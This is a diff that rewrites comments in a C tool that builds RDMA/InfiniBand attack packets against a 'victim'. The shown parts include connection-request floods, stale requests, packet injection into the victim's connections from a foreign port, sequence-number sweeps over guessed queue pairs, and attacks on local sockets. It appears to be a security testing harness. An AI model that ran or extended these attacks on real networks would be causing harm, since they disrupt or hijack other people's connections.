@@ -51,7 +51,7 @@ static in_port_t source_port, closed_port, open_ports[MAX_PORTS];
 static int port_count;
 static uint64_t service_port;
 
-/* xorshift. The victim cannot predict the numbers; nothing more is needed. */
+/* A xorshift generator is good enough here: the victim cannot predict its numbers. */
 static uint64_t random_number(void)
 {
     static uint64_t state = 0x9e3779b97f4a7c15;
@@ -86,7 +86,7 @@ struct packet {
 
 enum { BTH = 12, DETH = 8, MAD = 256, MAD_HEADER = 24, ICRC = 4 };
 enum { SEND_ONLY = 0x04, ACKNOWLEDGE = 0x11, DATAGRAM = 0x64 };
-/* The service ID of TCP port 0. */
+/* The service ID for TCP port 0. The service ID for another port is this number plus the port. */
 enum { SERVICE_OF_PORT_0 = 0x01060000 };
 enum { REQ = 0x10, REJ = 0x12, DREQ = 0x15 };
 
@@ -285,14 +285,20 @@ static void make_req(struct packet *packet, uint64_t guid, uint32_t qpn, uint64_
     append_icrc(packet);
 }
 
-/* Valid connection requests for services that nobody has: the ports are privileged. */
+/*
+ * Makes valid connection requests for services that do not exist: no program listens on these
+ * privileged ports.
+ */
 static void requests(struct packet *packet, uint64_t n)
 {
     make_req(packet, random_number() | 1, (uint32_t)random_number() & 0xffffff,
              SERVICE_OF_PORT_0 + n % 1024);
 }
 
-/* Connection requests that are accepted, and never established. Each is of another caller. */
+/*
+ * Makes connection requests that the service accepts but that the caller never establishes. Each
+ * request comes from a different caller.
+ */
 static void accepted_requests(struct packet *packet, uint64_t n)
 {
     (void)n;
@@ -301,8 +307,9 @@ static void accepted_requests(struct packet *packet, uint64_t n)
 }
 
 /*
- * Connection requests that name the queue pair of the transfer's client, which is connected.
- * dapltest listens for control connections as long as it runs.
+ * Makes connection requests that name a queue pair that is connected already: the queue pair of the
+ * transfer's client. The requests are for dapltest's control service, which listens until dapltest
+ * ends.
  */
 static void stale_requests(struct packet *packet, uint64_t n)
 {
@@ -318,7 +325,10 @@ static void make_send(struct packet *packet, uint32_t qpn, uint32_t psn, size_t 
     append_icrc(packet);
 }
 
-/* Packets and messages for the victim's connections, from a port that is not the peer's. */
+/*
+ * Makes packets and messages for the victim's connections. They come from a port that is not the
+ * peer's.
+ */
 static void injections(struct packet *packet, uint64_t n)
 {
     enum { ACK = 0x1f, NAK = 0x60 };
@@ -352,10 +362,16 @@ static void injections(struct packet *packet, uint64_t n)
     append_icrc(packet);
 }
 
-/* All PSNs, one after the other, for a guessed queue pair. Each round guesses another one. */
+/*
+ * Sends all PSNs, one after the other, to a guessed queue pair, and then guesses another queue
+ * pair.
+ */
 static void sweep(struct packet *packet, uint64_t n)
 {
-    /* The guess has a likely slot, because the lowest slots are assigned first. */
+    /*
+     * The guess contains one of the slots 0 to 3, which exist most likely, because the lowest slots
+     * are assigned first.
+     */
     static uint32_t guess;
     if (n % (1 << 24) == 0)
         guess = ((uint32_t)random_number() & 0xffff80) | (uint32_t)(n >> 24) % 4;
@@ -365,9 +381,9 @@ static void sweep(struct packet *packet, uint64_t n)
 static const struct attack {
     const char *name;
     void (*make)(struct packet *, uint64_t);
-    /* The attack needs the numbers of the victim's connections. */
+    /* Whether the attack needs the numbers of the victim's connections. */
     bool needs_connections;
-    /* Each packet is new. Otherwise, POOL_PACKETS packets are repeated. */
+    /* Whether each packet is new. If not, POOL_PACKETS packets are sent again and again. */
     bool never_repeats;
 } ATTACKS[] = {
     {"garbage", garbage, false, false},      {"requests", requests, false, false},
@@ -446,7 +462,10 @@ static long open_connection(const struct sockaddr_in *to, bool sends_garbage)
     return 1;
 }
 
-/* Attacks all local sockets that the kernel lists or, if `closed`, a name that nobody has. */
+/*
+ * Attacks all local sockets that the kernel lists or, if `closed`, a socket name that no socket
+ * has.
+ */
 static long attack_local_sockets(bool closed)
 {
     struct sockaddr_un nobody = {.sun_family = AF_UNIX, .sun_path = "/tmp/opendat-nobody/4791"};
